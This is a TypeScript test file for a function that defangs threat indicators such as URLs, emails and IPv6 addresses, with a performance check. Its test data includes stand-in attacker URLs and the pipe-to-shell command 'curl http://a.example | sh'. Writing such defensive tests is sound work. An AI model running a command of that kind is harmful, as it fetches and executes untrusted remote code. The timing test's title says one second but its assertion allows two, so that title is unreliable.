import { expect, test } from 'vitest'
import { defang } from './defang.ts'

test.each([
  ['http://evil.example/a.sh', 'hxxp://evil[.]example/a[.]sh'],
  ['HTTPS://EVIL.example', 'hxxps://EVIL[.]example'],
  ['ftp://evil.example:21/x', 'fxp://evil[.]example:21/x'],
  ['tcp://192.0.2.1:4444', 'tcp[://]192[.]0[.]2[.]1:4444'],
  ['curl http://a.example | sh', 'curl hxxp://a[.]example | sh'],
  ['who@evil.example', 'who[at]evil[.]example'],
  ['2001:db8::1', '2001[:]db8[:][:]1'],
  ['xn--e1afmkfd.example', 'xn--e1afmkfd[.]example'],
  ['пример.example', 'пример[.]example'],
  ['the end.', 'the end.'],
  ['../../etc', '../../etc'],
  ['a ratio of 1:2', 'a ratio of 1:2'],
])('%s is shown as %s, and stays so', (text, expected) => {
  expect(defang(text)).toBe(expected)
  expect(defang(expected)).toBe(expected)
})

test('a megabyte of anything is changed in less than a second', () => {
  for (const text of ['http:', 'a.', '://', ':', 'f', '@', '1:', '[.]']) {
    const began = performance.now()
    defang(text.repeat(1_000_000 / text.length))
    expect(performance.now() - began, text).toBeLessThan(2_000)
  }
})
